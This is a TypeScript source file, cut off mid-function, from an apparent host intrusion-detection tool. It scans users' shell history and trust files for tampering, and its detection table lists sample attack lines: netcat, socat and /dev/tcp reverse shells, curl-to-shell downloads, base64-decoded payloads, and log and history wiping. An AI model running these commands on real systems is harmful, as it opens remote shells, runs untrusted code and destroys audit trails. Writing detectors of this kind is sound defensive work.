/**
 * hostsentry's home-directory modules: HistoryTruncated, HistorySuspicious, RhostsCheck and
 * OddDirnames. Pure: the adapter (inputs/homes.ts) gathers snapshots of history files, trust files
 * and oddly named directories; these functions compare them with the per-user history and return
 * the anomalies and the new history. No I/O, no clock (the check time is an argument), no logging.
 *
 * Each finding is reported once until it changes. Shrinking and deletion are measured against the
 * size remembered in `UserProfile.historySizes`; everything else (a history file that is a link, a
 * suspicious line, a wildcard trust line, an odd directory) is remembered as a key in
 * `UserProfile.homeFindings`. A key of a state (a link, a trust line, a directory) is forgotten when
 * a later check no longer sees the state, so its return is a new finding.
 *
 * History files and directory names are written by whoever controls the account, possibly an
 * attacker: lines are split by a hand-written linear lexer and matched by predicates over words, not
 * by backtracking regexes, and all text reaching evidence is escaped.
 */
import type { HostsentryConfig } from '../config.js';
import { emptyProfile, type History, type UserProfile } from './history.js';
import type { Anomaly, ModuleName } from './modules.js';

/** The config subset the home checks read (a full HostsentryConfig fits). */
export interface HomesConfig {
  readonly home_checks: Pick<HostsentryConfig['home_checks'], 'history_files'>;
  readonly modules: Pick<HostsentryConfig['modules'], 'history_truncated' | 'history_suspicious' | 'rhosts_check' | 'odd_dirnames'>;
}

/** What a history file is now: a regular file, absent, a symbolic link, or something else (a directory, a fifo, a device). */
export type HistoryFileKind = 'file' | 'missing' | 'symlink' | 'other';

/** One history file of one user as the adapter saw it (lstat, never following links). */
export interface HistoryFileSnapshot {
  readonly user: string;
  readonly home: string;
  /** The file, relative to the home, as configured in home_checks.history_files. */
  readonly file: string;
  readonly kind: HistoryFileKind;
  /** Bytes: the file's size (kind file), the link's own size (symlink), otherwise 0. */
  readonly size: number;
  /** Where a symbolic link points (readlink), for kind symlink. */
  readonly linkTarget?: string;
  /** What a kind 'other' is, in words: "directory", "fifo", "socket", "character device", "block device". */
  readonly type?: string;
  /** The last bytes of a regular file (the adapter reads at most 256 KiB), for HistorySuspicious. */
  readonly tail?: Uint8Array;
  /** The file offset of `tail[0]`; 0 when the tail is the whole file. */
  readonly tailOffset?: number;
}

/** A trust file (`.rhosts`, `.shosts`, `/etc/hosts.equiv`) as read by the adapter. */
export interface TrustFileSnapshot {
  /** Absolute path, used in evidence and as the finding key. */
  readonly path: string;
  /** The user whose home holds it; '' for a system-wide file (remembered under {@link SYSTEM_USER}). */
  readonly user: string;
  /** The file's lines; empty when the file is absent (which forgets its earlier findings). */
  readonly lines: readonly string[];
}

/** The result of walking one home: the directories found (the adapter may pass only odd ones) and whether the walk saw everything. */
export interface HomeWalk {
  readonly user: string;
  readonly home: string;
  /** Directory paths relative to the home ("a/b/..."); each is judged by its last component. */
  readonly dirs: readonly string[];
  /** False when a cap or an unreadable directory cut the walk short; findings of unseen parts are then kept, not forgotten. */
  readonly complete: boolean;
}

/** A check's outcome: the anomalies found and the history with what was reported remembered. */
export interface HomeCheckResult {
  readonly history: History;
  readonly anomalies: Anomaly[];
}

/** System-wide trust file findings are reported as, and remembered in the profile of, this user. */
export const SYSTEM_USER = 'root';
/** Upper bound on {@link UserProfile.homeFindings} per user; the oldest keys are forgotten first. */
export const MAX_HOME_FINDINGS = 512;
/** Longer history lines are judged on their first this-many characters. */
export const MAX_LINE_CHARS = 65536;
/** At most this many items are spelled out in one anomaly's evidence; the rest are counted. */
export const MAX_EVIDENCE_ITEMS = 5;
/** Text quoted in evidence (a line, a path) is cut to this many characters. */
export const MAX_QUOTE_CHARS = 160;

// ---------------------------------------------------------------------------------------------
// Escaping and keys

/** True for characters that must never be shown raw: C0/C1 controls, DEL, invisible and bidirectional-override marks. */
function isHidden(cp: number): boolean {
  return cp < 0x20 || (cp >= 0x7f && cp <= 0x9f) || (cp >= 0x200b && cp <= 0x200f) || (cp >= 0x202a && cp <= 0x202e) || (cp >= 0x2060 && cp <= 0x2069) || cp === 0xfeff;
}

/** True for space-like characters other than control characters (a name of only these looks blank). */
function isSpaceLike(cp: number): boolean {
  return cp === 0x20 || cp === 0xa0 || cp === 0x1680 || (cp >= 0x2000 && cp <= 0x200a) || cp === 0x202f || cp === 0x205f || cp === 0x3000;
}

/**
 * `text` in double quotes with every hidden or non-ASCII space character, backslash and quote
 * escaped (`\x1b`, `\u{202e}`, `\\`, `\"`), cut to `max` characters. The result holds no control
 * character, so it is safe in a log line.
 */
export function quote(text: string, max = MAX_QUOTE_CHARS): string {
  let out = '';
  let n = 0;
  for (const ch of text) {
    if (n >= max) {
      out += '...';
      break;
    }
    n++;
    const cp = ch.codePointAt(0)!;
    if (ch === '\\' || ch === '"') out += `\\${ch}`;
    else if (isHidden(cp) || (cp !== 0x20 && isSpaceLike(cp))) out += cp < 0x100 ? `\\x${cp.toString(16).padStart(2, '0')}` : `\\u{${cp.toString(16)}}`;
    // A lone surrogate (from a broken decode) has no meaning; show the replacement character.
    else if (cp >= 0xd800 && cp <= 0xdfff) out += '\ufffd';
    else out += ch;
  }
  return `"${out}"`;
}

/** FNV-1a (32 bits, hex) of a string's UTF-16 units: a short, stable name for a line in a key. */
function fnv1a(text: string): string {
  let h = 0x811c9dc5;
  for (let i = 0; i < text.length; i++) {
    h ^= text.charCodeAt(i);
    h = Math.imul(h, 0x01000193) >>> 0;
  }
  return h.toString(16).padStart(8, '0');
}

// Keys are JSON arrays of short strings: unambiguous, free of control characters once encoded,
// and readable in `hostsentry stat`. A scope is a key's leading parts; its prefix ends with ','.
function findingKey(...parts: string[]): string {
  return JSON.stringify(parts.map((p) => (p.length > 256 ? `${p.slice(0, 256)}#${fnv1a(p)}` : p)));
}

function scopePrefix(...parts: string[]): string {
  return `${findingKey(...parts).slice(0, -1)},`;
}

/** Copy-on-write access to the profiles of a history: the input history is never changed. */
class ProfileEdits {
  private readonly copies = new Map<string, UserProfile>();

  constructor(
    private readonly history: History,
    private readonly time: number,
  ) {}

  read(user: string): UserProfile | undefined {
    return this.copies.get(user) ?? this.history.users[user];
  }

  /** The user's profile, copied once per check (created when unknown), ready to be changed. */
  write(user: string): UserProfile {
    let p = this.copies.get(user);
    if (p === undefined) {
      const before = this.history.users[user];
      p = before === undefined ? emptyProfile(this.time) : structuredClone(before);
      this.copies.set(user, p);
    }
    return p;
  }

  /**
   * Makes the keys under `scope` exactly `current` and returns those that were not there before.
   * A profile is only written when something changes, so clean homes create no profiles.
   */
  replaceScope(user: string, scope: string, current: readonly string[]): string[] {
    const before = storedKeys(this.read(user));
    const had = new Set(before.filter((k) => k.startsWith(scope)));
    const now = new Set(current);
    const fresh = [...now].filter((k) => !had.has(k));
    if (fresh.length === 0 && [...had].every((k) => now.has(k))) return [];
    const p = this.write(user);
    p.homeFindings = capKeys([...storedKeys(p).filter((k) => !k.startsWith(scope)), ...now]);
    return fresh;
  }

  /** Adds keys (keeping the old ones) and returns those that were new. */
  addKeys(user: string, keys: readonly string[]): string[] {
    const before = new Set(storedKeys(this.read(user)));
    const fresh = [...new Set(keys)].filter((k) => !before.has(k));
    if (fresh.length === 0) return [];
    const p = this.write(user);
    p.homeFindings = capKeys([...storedKeys(p), ...fresh]);
    return fresh;
  }

  result(): History {
    if (this.copies.size === 0) return this.history;
    return { ...this.history, users: { ...this.history.users, ...Object.fromEntries(this.copies) } };
  }
}

/** The finding keys of a profile; anything else a damaged store may hold there counts as none. */
function storedKeys(p: UserProfile | undefined): string[] {
  const k: unknown = p?.homeFindings;
  return Array.isArray(k) ? k.filter((x): x is string => typeof x === 'string') : [];
}

const LINE_KEY = findingKey('S').slice(0, -1);

/**
 * Keeps at most MAX_HOME_FINDINGS keys, dropping the oldest suspicious-line keys first: a line
 * forgotten is only re-reported if it is scanned again (after a shrink), while a forgotten state
 * (a link, a trust line, a directory) would be re-reported at the next check.
 */
function capKeys(keys: string[]): string[] {
  let excess = keys.length - MAX_HOME_FINDINGS;
  if (excess <= 0) return keys;
  const out = keys.filter((k) => !(excess > 0 && k.startsWith(LINE_KEY) && excess-- > 0));
  return out.length > MAX_HOME_FINDINGS ? out.slice(out.length - MAX_HOME_FINDINGS) : out;
}

function homeAnomaly(module: ModuleName, severity: Anomaly['severity'], user: string, time: number, evidence: string): Anomaly {
  return { module, severity, user, tty: '', source: '', time, evidence };
}

/** "a; b; c (and 4 more)" from at most {@link MAX_EVIDENCE_ITEMS} items. */
function listItems(items: readonly string[]): string {
  const shown = items.slice(0, MAX_EVIDENCE_ITEMS).join('; ');
  return items.length > MAX_EVIDENCE_ITEMS ? `${shown} (and ${items.length - MAX_EVIDENCE_ITEMS} more)` : shown;
}

function joinPath(home: string, rel: string): string {
  return home.endsWith('/') ? `${home}${rel}` : `${home}/${rel}`;
}

// ---------------------------------------------------------------------------------------------
// Shell lines: a linear lexer and a parse into pipelines of simple commands

/** One simple command: the command name (basename, after sudo/env/nohup-style prefixes), its arguments, its assignments and redirections. */
export interface SimpleCommand {
  readonly head: string;
  readonly args: readonly string[];
  readonly assigns: readonly string[];
  readonly redirects: ReadonlyArray<{ readonly op: string; readonly target: string }>;
}
/** The simple commands of one pipeline stage; several when `$( )`, `<( )`, backticks, `( )`, `{ }` or `sh -c` nest commands. */
export type Segment = readonly SimpleCommand[];
/** The stages of one pipeline (split at `|` and `|&`). */
export type Pipeline = readonly Segment[];

type Token = { readonly op: string } | { readonly word: string };

// Longest first, so "&&" is not read as two "&".
const OPERATORS = ['&>>', '<<<', '|&', '||', '&&', ';;', '>>', '>|', '>&', '&>', '<<', '<>', '<&', '<(', '>(', '|', '&', ';', '<', '>'];
const SEPARATORS = new Set([';', ';;', '&&', '||', '&']);
const PIPES = new Set(['|', '|&']);
const NESTERS = new Set(['$(', '<(', '>(', '`', '(', ')']);
const REDIRECTS = new Set(['>', '>>', '>|', '>&', '&>', '&>>', '<', '<<', '<<<', '<>', '<&']);

/**
 * Splits a line into words and operators in one pass. Quotes are dropped but their content is
 * lexed like the rest (so `bash -c 'history -c'` shows the inner command; the price is that an
 * `echo "a; b"` is read as two commands); a backslash keeps the next character literal; `#` at a
 * word start ends the line (bash's timestamp lines are comments too).
 */
function lex(line: string): Token[] {
  const out: Token[] = [];
  let word = '';
  let inWord = false;
  const flush = (): void => {
    if (inWord) out.push({ word });
    word = '';
    inWord = false;
  };
  for (let i = 0; i < line.length; i++) {
    const c = line[i]!;
    switch (c) {
      case ' ':
      case '\t':
      case '\r':
      case '\n':
        flush();
        break;
      case '\\':
        inWord = true;
        if (i + 1 < line.length) word += line[++i]!;
        break;
      case "'":
      case '"':
        inWord = true;
        break;
      case '#':
        if (!inWord) {
          flush();
          return out;
        }
        word += c;
        break;
      case '`':
      case '(':
      case ')':
        flush();
        out.push({ op: c });
        break;
      case '$':
        if (line[i + 1] === '(') {
          flush();
          out.push({ op: '$(' });
          i++;
        } else {
          word += c;
          inWord = true;
        }
        break;
      case ';':
      case '&':
      case '|':
      case '<':
      case '>': {
        flush();
        const op = OPERATORS.find((o) => line.startsWith(o, i))!;
        out.push({ op });
        i += op.length - 1;
        break;
      }
      default:
        word += c;
        inWord = true;
    }
  }
  flush();
  return out;
}

/** Prefix commands that run the command after them, with their options that take a value. */
const PREFIXES = new Map<string, ReadonlySet<string>>([
  ['sudo', new Set(['-u', '-g', '-p', '-C', '-D', '-r', '-t', '-U', '-T'])],
  ['doas', new Set(['-u', '-C'])],
  ['env', new Set(['-u', '-C'])],
  ['nice', new Set(['-n'])],
  ['ionice', new Set(['-c', '-n', '-p'])],
  ['stdbuf', new Set(['-i', '-o', '-e'])],
  ['timeout', new Set(['-s', '-k'])],
  ['time', new Set(['-f', '-o'])],
  ['exec', new Set(['-a'])],
  ['command', new Set()],
  ['builtin', new Set()],
  ['nohup', new Set()],
  ['setsid', new Set()],
  ['busybox', new Set()],
]);

const SHELLS = new Set(['sh', 'bash', 'dash', 'zsh', 'ksh', 'ash', 'mksh', 'csh', 'tcsh', 'fish']);
/** Commands whose `-c` argument is itself a command line. */
const C_RUNNERS = new Set([...SHELLS, 'su']);

function isAssignment(w: string): boolean {
  const eq = w.indexOf('=');
  return eq > 0 && /^[A-Za-z_][A-Za-z0-9_]*$/.test(w.slice(0, eq));
}

/** True for a short option cluster ("-lc", "-e"): a dash and letters only. */
function isShortCluster(w: string): boolean {
  return w.length >= 2 && w[0] === '-' && w[1] !== '-' && /^-[A-Za-z]+$/.test(w);
}

function baseName(w: string): string {
  const s = w.endsWith('/') ? w.slice(0, -1) : w;
  return s.slice(s.lastIndexOf('/') + 1);
}

/** Builds the simple commands of one run of words: prefixes skipped, and split after a shell's `-c`. */
function buildCommands(words: readonly string[], redirects: SimpleCommand['redirects']): SimpleCommand[] {
  const out: SimpleCommand[] = [];
  let i = 0;
  const n = words.length;
  while (i < n || out.length === 0) {
    const assigns: string[] = [];
    let head = '';
    for (;;) {
      while (i < n && isAssignment(words[i]!)) assigns.push(words[i++]!);
      if (i >= n) break;
      head = baseName(words[i]!);
      const opts = PREFIXES.get(head);
      if (opts === undefined) {
        i++;
        break;
      }
      i++;
      while (i < n && words[i]!.startsWith('-') && words[i] !== '-') {
        if (words[i] === '--') {
          i++;
          break;
        }
        i += opts.has(words[i]!) ? 2 : 1;
      }
      if (head === 'timeout' && i < n && /^[0-9.]+[smhd]?$/.test(words[i]!)) i++;
      // A prefix with nothing after it (`sudo -i`) is itself the command.
      if (i >= n && head !== 'env') break;
    }
    let end = n;
    if (C_RUNNERS.has(head)) {
      for (let k = i; k < n; k++) {
        if (isShortCluster(words[k]!) && words[k]!.includes('c')) {
          end = k + 1;
          break;
        }
      }
    }
    out.push({ head, args: words.slice(i, end), assigns, redirects: out.length === 0 ? redirects : [] });
    i = end;
  }
  return out;
}

/** Parses one line into its pipelines. Linear in the line's length. */
export function parseShellLine(line: string): Pipeline[] {
  const pipelines: Pipeline[] = [];
  let pipeline: Segment[] = [];
  let segment: SimpleCommand[] = [];
  let words: string[] = [];
  let redirects: Array<{ op: string; target: string }> = [];
  const endRun = (): void => {
    if (words.length > 0 || redirects.length > 0) for (const c of buildCommands(words, redirects)) segment.push(c);
    words = [];
    redirects = [];
  };
  const endSegment = (): void => {
    endRun();
    if (segment.length > 0) pipeline.push(segment);
    segment = [];
  };
  const endPipeline = (): void => {
    endSegment();
    if (pipeline.length > 0) pipelines.push(pipeline);
    pipeline = [];
  };
  const toks = lex(line);
  for (let i = 0; i < toks.length; i++) {
    const t = toks[i]!;
    if ('word' in t) {
      if (t.word === '{' || t.word === '}') endRun();
      else words.push(t.word);
    } else if (SEPARATORS.has(t.op)) endPipeline();
    else if (PIPES.has(t.op)) endSegment();
    else if (NESTERS.has(t.op)) endRun();
    else if (REDIRECTS.has(t.op)) {
      const next = toks[i + 1];
      if (next !== undefined && 'word' in next) {
        redirects.push({ op: t.op, target: next.word });
        i++;
      }
    }
  }
  endPipeline();
  return pipelines;
}

// ---------------------------------------------------------------------------------------------
// Suspicious patterns

/** What the patterns may consult besides the line. */
export interface MatchContext {
  /** Base names of the configured history files (".bash_history", ...). */
  readonly historyNames: ReadonlySet<string>;
}

/** One named pattern of HistorySuspicious, with lines it must match and near-misses it must not. */
export interface SuspiciousPattern {
  /** The short name used in evidence. */
  readonly name: string;
  readonly description: string;
  readonly samples: readonly string[];
  readonly nearMisses: readonly string[];
  readonly test: (line: ParsedLine, ctx: MatchContext) => boolean;
}

/** A parsed line: its pipelines, and all its simple commands in order (flattened once, as most patterns look at commands alone). */
export interface ParsedLine {
  readonly pipelines: readonly Pipeline[];
  readonly commands: readonly SimpleCommand[];
}

const DOWNLOADERS = new Set(['curl', 'wget', 'fetch', 'tftp', 'lwp-request', 'lwp-download', 'nc', 'ncat', 'netcat', 'socat']);
const PIPE_RUNNERS = new Set([...SHELLS, 'source', '.']);
const EXEC_RUNNERS = new Set([...SHELLS, 'eval', 'source', '.']);
const NETCATS = new Set(['nc', 'ncat', 'netcat', 'nc.traditional', 'nc.openbsd']);
const WIPERS = new Set(['rm', 'shred', 'truncate', 'unlink', 'srm', 'wipe']);
const LOG_NAMES = new Set(['wtmp', 'btmp', 'utmp', 'lastlog', 'faillog', 'auth.log', 'secure', 'syslog', 'messages', 'kern.log', 'audit.log', 'daemon.log', 'sulog', 'wtmp.db']);
const HISTORY_VARS = new Set(['HISTFILE', 'HISTSIZE', 'HISTFILESIZE', 'SAVEHIST']);
const EXPORTERS = new Set(['export', 'declare', 'typeset', 'readonly', 'local']);

function anyCommand(line: ParsedLine, pred: (c: SimpleCommand) => boolean): boolean {
  return line.commands.some(pred);
}

/** A log file, a login record file, or a shell history file, by path or name (rotated copies too). */
function isLogTarget(w: string, ctx: MatchContext): boolean {
  if (w === '/var/log' || w === '/var/log/' || w.startsWith('/var/log/')) return true;
  if (w.includes('$HISTFILE') || w.includes('${HISTFILE}')) return true;
  let b = baseName(w);
  if (ctx.historyNames.has(b) || (b.startsWith('.') && b.endsWith('history'))) return true;
  // Strip rotation suffixes: auth.log.2.gz, wtmp.1
  for (const z of ['.gz', '.xz', '.bz2', '.zst']) if (b.endsWith(z)) b = b.slice(0, -z.length);
  const dot = b.lastIndexOf('.');
  if (dot > 0 && /^[0-9]+$/.test(b.slice(dot + 1))) b = b.slice(0, dot);
  return LOG_NAMES.has(b);
}

/** Assignments a command makes: its prefix assignments, export-style arguments, csh `setenv NAME VALUE`. */
function assignmentsOf(c: SimpleCommand): Array<readonly [string, string]> {
  const out: Array<readonly [string, string]> = [];
  const add = (w: string): void => {
    const eq = w.indexOf('=');
    out.push([w.slice(0, eq), w.slice(eq + 1)]);
  };
  for (const a of c.assigns) add(a);
  if (EXPORTERS.has(c.head)) for (const a of c.args) if (isAssignment(a)) add(a);
  if (c.head === 'setenv' && c.args[0] !== undefined) out.push([c.args[0], c.args[1] ?? '']);
  return out;
}

function hasClusterWith(args: readonly string[], letters: string): boolean {
  return args.some((a) => isShortCluster(a) && [...letters].some((l) => a.includes(l)));
}

/**
 * The patterns of HistorySuspicious, in the order they are reported. Each matches parsed commands
 * (see {@link parseShellLine}), so a command named only in an argument (`grep 'history -c'`,
 * `man curl | less`) does not count.
 */
export const SUSPICIOUS_PATTERNS: readonly SuspiciousPattern[] = [
  {
    name: 'unset-history-var',
    description: 'unset HISTFILE, HISTSIZE, HISTFILESIZE or SAVEHIST: the session is not recorded',
    samples: ['unset HISTFILE', 'unset -v HISTSIZE', 'cd /tmp; unset HISTFILE HISTSIZE', 'sudo bash -c "unset HISTFILE"'],
    nearMisses: ['unset HISTTIMEFORMAT', "grep 'unset HISTFILE' ~/.bashrc", 'echo unset'],
    test: (l) => anyCommand(l, (c) => c.head === 'unset' && c.args.some((a) => HISTORY_VARS.has(a))),
  },
  {
    name: 'histfile-disabled',
    description: 'HISTFILE set to /dev/null or empty',
    samples: ['HISTFILE=/dev/null', 'export HISTFILE=/dev/null', "export HISTFILE=''", 'HISTFILE=/dev/null bash', 'setenv HISTFILE /dev/null'],
    nearMisses: ['export HISTFILE=~/.bash_history_work', 'echo HISTFILE=/dev/null', 'HISTFILESIZE=5000'],
    test: (l) => anyCommand(l, (c) => assignmentsOf(c).some(([k, v]) => k === 'HISTFILE' && (v === '' || v === '/dev/null'))),
  },
  {
    name: 'histsize-zero',
    description: 'HISTSIZE, HISTFILESIZE or SAVEHIST set to 0',
    samples: ['HISTSIZE=0', 'export HISTFILESIZE=0', 'export SAVEHIST=0', 'HISTSIZE=0 HISTFILESIZE=0'],
    nearMisses: ['HISTSIZE=10000', 'export HISTSIZE=100', 'echo HISTSIZE=0'],
    test: (l) => anyCommand(l, (c) => assignmentsOf(c).some(([k, v]) => HISTORY_VARS.has(k) && k !== 'HISTFILE' && /^0+$/.test(v))),
  },
  {
    name: 'history-clear',
    description: 'history -c: the in-memory history is cleared',
    samples: ['history -c', 'history -cw', 'history -c && exit', 'cd; history -c'],
    nearMisses: ['history', 'history | grep ssh', 'history 20', 'history -w', "echo 'history -c'"],
    test: (l) => anyCommand(l, (c) => c.head === 'history' && hasClusterWith(c.args, 'c')),
  },
  {
    name: 'history-delete',
    description: 'history -d: entries are deleted from the history',
    samples: ['history -d 1042', 'history -d -5'],
    nearMisses: ['history 5', 'history -a'],
    test: (l) => anyCommand(l, (c) => c.head === 'history' && hasClusterWith(c.args, 'd')),
  },
  {
    name: 'set-no-history',
    description: 'set +o history: recording is switched off',
    samples: ['set +o history', 'set +o vi +o history'],
    nearMisses: ['set -o history', 'set -o vi', 'set +o vi'],
    test: (l) => anyCommand(l, (c) => c.head === 'set' && c.args.some((a, i) => (a === '+o' && c.args[i + 1] === 'history') || a === '+ohistory')),
  },
  {
    name: 'log-wipe',
    description: 'rm, shred, truncate, dd or cp /dev/null over a log, a login record file or a history file',
    samples: [
      'rm -f /var/log/wtmp',
      'shred -u ~/.bash_history',
      'truncate -s 0 /var/log/auth.log',
      'rm -rf /var/log',
      'sudo rm /var/log/btmp.1',
      'unlink /run/utmp',
      'dd if=/dev/zero of=/var/log/lastlog',
      'cp /dev/null /var/log/wtmp',
      'rm $HISTFILE',
      '\\rm -f ~/.zsh_history',
    ],
    nearMisses: ['rm -rf build/log', 'rm /tmp/foo.log', 'rm notes_wtmp.txt', 'less /var/log/auth.log', 'cp /var/log/syslog /tmp/syslog.copy', 'rm history.txt'],
    test: (l, ctx) =>
      anyCommand(l, (c) => {
        if (WIPERS.has(c.head)) return c.args.some((a) => isLogTarget(a, ctx));
        if (c.head === 'dd') return c.args.some((a) => a.startsWith('of=') && isLogTarget(a.slice(3), ctx));
        if (c.head === 'cp' || c.head === 'mv' || c.head === 'install') return c.args.includes('/dev/null') && c.args.some((a) => isLogTarget(a, ctx));
        return false;
      }),
  },
  {
    name: 'log-edit',
    description: 'sed -i or perl -i editing a log or history file in place',
    samples: ["sed -i '/203.0.113.9/d' /var/log/auth.log", "perl -pi -e 's/evil//' ~/.bash_history", 'sudo sed -ie /x/d /var/log/secure'],
    nearMisses: ["sed -n '1,5p' /var/log/auth.log", "sed -i 's/a/b/' config.txt", 'grep x /var/log/auth.log'],
    test: (l, ctx) =>
      anyCommand(l, (c) => (c.head === 'sed' || c.head === 'perl') && c.args.some((a) => isShortCluster(a) && a.includes('i')) && c.args.some((a) => isLogTarget(a, ctx))),
  },
  {
    name: 'log-truncate',
    description: 'a redirection that truncates a log or history file (> file, : > file)',
    samples: [': > /var/log/wtmp', 'cat /dev/null > ~/.bash_history', '> /var/log/auth.log', 'echo "" >| /var/log/lastlog', 'true &> $HISTFILE'],
    nearMisses: ['echo x >> /var/log/my.log', 'cat /var/log/auth.log > /tmp/copy', 'ls > out.txt', 'grep x < /var/log/auth.log'],
    test: (l, ctx) => anyCommand(l, (c) => c.redirects.some((r) => (r.op === '>' || r.op === '>|' || r.op === '&>' || r.op === '>&') && isLogTarget(r.target, ctx))),
  },
  {
    name: 'history-link-devnull',
    description: 'ln -s /dev/null over a log or history file',
    samples: ['ln -sf /dev/null ~/.bash_history', 'ln -s /dev/null .zsh_history', 'ln -sf /dev/null /var/log/wtmp'],
    nearMisses: ['ln -s ~/dotfiles/bashrc ~/.bashrc', 'ln -s /dev/null /tmp/sink'],
    test: (l, ctx) => anyCommand(l, (c) => c.head === 'ln' && c.args.includes('/dev/null') && c.args.some((a) => a !== '/dev/null' && isLogTarget(a, ctx))),
  },
  {
    name: 'download-pipe-shell',
    description: 'a download (curl, wget, nc ...) piped into a shell',
    samples: ['curl -fsSL http://198.51.100.7/x | sh', 'wget -qO- http://example.net/i | sudo bash', 'curl http://x/a|bash -s -- arg', 'bash -c "curl -s http://x/y | sh"', 'nc 198.51.100.7 80 | /bin/sh'],
    nearMisses: ['curl -s https://api.example.org | jq .', 'wget -qO- http://x | grep sh', 'curl -o install.sh http://x', 'curl http://x | shasum', 'man curl | less', "echo 'curl http://x' | wc -c"],
    test: (l) => {
      for (const p of l.pipelines) {
        let downloaded = false;
        for (const s of p) {
          if (downloaded && s[0] !== undefined && PIPE_RUNNERS.has(s[0].head)) return true;
          if (s.some((c) => DOWNLOADERS.has(c.head))) downloaded = true;
        }
      }
      return false;
    },
  },
  {
    name: 'download-exec',
    description: 'a shell, eval or source running the output of a download ($(curl ...), <(wget ...))',
    samples: ['bash <(curl -s http://x/i)', 'sh -c "$(wget -qO- http://x/i)"', 'eval "$(curl -fsSL http://x)"', '. <(curl -s http://x)', 'bash -c "`curl http://x`"'],
    nearMisses: ['echo $(curl -s https://ifconfig.me)', 'bash install.sh', 'curl -o x.sh http://x', 'IP=$(curl -s http://x)'],
    test: (l) => {
      for (const p of l.pipelines)
        for (const s of p) {
          let runner = false;
          for (const c of s) {
            if (runner && DOWNLOADERS.has(c.head)) return true;
            if (EXEC_RUNNERS.has(c.head)) runner = true;
          }
        }
      return false;
    },
  },
  {
    name: 'decode-pipe-shell',
    description: 'base64 (or xxd -r, openssl base64 -d) decoded text piped into a shell',
    samples: ['echo ZWNobyBoaQ== | base64 -d | sh', 'base64 --decode p.txt | bash', 'cat x | openssl base64 -d | sh', 'xxd -r -p h.txt | bash'],
    nearMisses: ['echo aGk= | base64 -d', 'echo hi | base64 | sh', 'base64 -d in > out'],
    test: (l) => {
      const decodes = (c: SimpleCommand): boolean =>
        ((c.head === 'base64' || c.head === 'base32') && (c.args.includes('--decode') || hasClusterWith(c.args, 'dD'))) ||
        (c.head === 'openssl' && c.args.includes('base64') && c.args.includes('-d')) ||
        (c.head === 'xxd' && hasClusterWith(c.args, 'r'));
      for (const p of l.pipelines) {
        let decoded = false;
        for (const s of p) {
          if (decoded && s[0] !== undefined && PIPE_RUNNERS.has(s[0].head)) return true;
          if (s.some(decodes)) decoded = true;
        }
      }
      return false;
    },
  },
  {
    name: 'netcat-exec',
    description: 'nc/ncat with -e or -c: a program served over the network (bind or reverse shell)',
    samples: ['nc -e /bin/sh 198.51.100.7 4444', 'nc -lvp 4444 -e /bin/bash', 'ncat --exec /bin/bash -l 9001', 'ncat --sh-exec "bash -i" 198.51.100.7 1', 'nc.traditional -c sh 198.51.100.7 80', 'nc -e/bin/sh 198.51.100.7 80'],
    nearMisses: ['nc -zv 192.0.2.1 22', 'nc -l 1234 > file', 'ncat --ssl 192.0.2.1 443', 'echo nc -e'],
    test: (l) =>
      anyCommand(
        l,
        (c) =>
          NETCATS.has(c.head) &&
          c.args.some((a) => a === '--exec' || a === '--sh-exec' || a === '--lua-exec' || (a[0] === '-' && a[1] !== '-' && /^-[A-Za-z]*/.exec(a)![0].slice(1).search(/[ec]/) >= 0)),
      ),
  },
  {
    name: 'socat-exec',
    description: 'socat with an EXEC: or SYSTEM: address (a shell over the network)',
    samples: ['socat TCP:198.51.100.7:4444 EXEC:/bin/bash', 'socat tcp-listen:9001,fork system:bash,pty,stderr'],
    nearMisses: ['socat TCP-LISTEN:8080,fork TCP:127.0.0.1:80', 'socat - UDP:192.0.2.1:53'],
    test: (l) => anyCommand(l, (c) => c.head === 'socat' && c.args.some((a) => /(^|[,:])(exec|system):/i.test(a))),
  },
  {
    name: 'dev-tcp-redirect',
    description: 'a redirection to /dev/tcp or /dev/udp (bash reverse shell or raw download)',
    samples: ['bash -i >& /dev/tcp/198.51.100.7/4444 0>&1', 'exec 5<>/dev/tcp/198.51.100.7/80', 'cat < /dev/tcp/198.51.100.7/80', 'sh -i 2>&1 >/dev/udp/198.51.100.7/53'],
    nearMisses: ['ls /dev/tcp', 'echo /dev/tcp/198.51.100.7/80', 'bash -i'],
    test: (l) => anyCommand(l, (c) => c.redirects.some((r) => r.target.startsWith('/dev/tcp/') || r.target.startsWith('/dev/udp/'))),
  },
  {
    name: 'chattr-immutable',
    description: 'chattr +i: a file made immutable (a planted file protected from removal)',
    samples: ['chattr +i ~/.ssh/authorized_keys', 'sudo chattr +ia /etc/passwd', 'chattr =i /tmp/x'],
    nearMisses: ['chattr -i file', 'lsattr file', 'chattr +A file'],
    test: (l) => anyCommand(l, (c) => c.head === 'chattr' && c.args.some((a) => (a[0] === '+' || a[0] === '=') && a.includes('i'))),
  },
  {
    name: 'kill-own-shell',
    description: 'kill -9 $$: the shell dies without writing its history',
    samples: ['kill -9 $$', 'kill -KILL $$', 'kill -s KILL $$', 'kill -SIGKILL $$'],
    nearMisses: ['kill -9 1234', 'kill $$', 'kill -HUP $$'],
    test: (l) =>
      anyCommand(l, (c) => c.head === 'kill' && c.args.includes('$$') && c.args.some((a, i) => a === '-9' || a === '-KILL' || a === '-SIGKILL' || (a === '-s' && /^(9|KILL|SIGKILL)$/.test(c.args[i + 1] ?? '')))),
  },
];

/** The names of the patterns a history line matches, in table order (empty for an innocent line). */
export function suspiciousMatches(line: string, ctx: MatchContext): string[] {
  const pipelines = parseShellLine(line.length > MAX_LINE_CHARS ? line.slice(0, MAX_LINE_CHARS) : line);
  if (pipelines.length === 0) return [];
  const commands: SimpleCommand[] = [];
  for (const p of pipelines) for (const seg of p) for (const c of seg) commands.push(c);
  const parsed: ParsedLine = { pipelines, commands };
  return SUSPICIOUS_PATTERNS.filter((p) => p.test(parsed, ctx)).map((p) => p.name);
}

/** The match context of a config: the base names of its history files. */
export function matchContext(cfg: HomesConfig): MatchContext {
  return { historyNames: new Set(cfg.home_checks.history_files.map(baseName)) };
}

// ---------------------------------------------------------------------------------------------
// HistoryTruncated and HistorySuspicious

const UTF8 = new TextDecoder('utf-8');

/** The complete lines of a tail that end after byte `from` of the file: [file offset of its end, text]. */
function* newLines(tail: Uint8Array, tailOffset: number, from: number): Generator<string> {
  let start = 0;
  // A tail starting mid-file starts mid-line: that first piece is not a whole command.
  if (tailOffset > 0) {
    const nl = tail.indexOf(0x0a);
    start = nl < 0 ? tail.length : nl + 1;
  }
  while (start < tail.length) {
    let end = tail.indexOf(0x0a, start);
    if (end < 0) end = tail.length;
    // A line ending at or before `from` was judged at an earlier check.
    if (tailOffset + end > from && end > start) yield UTF8.decode(tail.subarray(start, Math.min(end, start + MAX_LINE_CHARS * 4)));
